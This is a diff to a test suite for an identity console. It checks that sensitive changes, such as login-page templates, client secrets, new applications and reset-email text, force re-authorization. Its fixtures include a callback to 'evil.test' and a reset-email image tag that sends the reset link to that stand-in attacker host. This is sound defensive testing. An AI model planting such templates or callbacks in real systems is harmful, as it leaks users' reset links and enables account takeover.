@@ -100,6 +100,22 @@ describe('resources at the console', () => {
       ['/console/create/emails/provider', { name: 'smtp' }],
       ['/console/replace/branding/templates/universal-login', { template: '<html></html>' }],
       ['/console/create/users', { email: 'new@example.test', connection: 'users' }],
+      // What is there twice asks twice: the page template of all, a known secret, an application's APIs, a link's message.
+      ['/console/change/clients/gatehouse-all-applications', { custom_login_page: '<script></script>' }],
+      ['/console/change/clients/web', { step: 'save', body: '{"client_secret":"chosen-elsewhere"}' }],
+      ['/console/create/clients', { name: 'Out', app_type: 'spa' }],
+      ['/console/new-application', { name: 'Out', callback: 'https://evil.test/', kind: 'spa' }],
+      [
+        '/console/create/resource-servers',
+        { identifier: 'https://out.test/', signing_secret: 'chosen-elsewhere' },
+      ],
+      ['/console/applications/web/apis', { api: `${server.url}/api/v2/`, on: 'true' }],
+      ['/console/applications/web/connections', { connection: connection?.id ?? '', on: 'true' }],
+      [`/console/connections/${connection?.id}/applications`, { page: '0' }],
+      [
+        '/console/branding/messages/reset_email',
+        { order: 'save', body: '<img src="https://evil.test/{{ url }}">' },
+      ],
     ] as const) {
       const answer = await owner.post(path, form);
       expect(answer.location, `${path} ${answer.text}`).to.contain('/authorize');
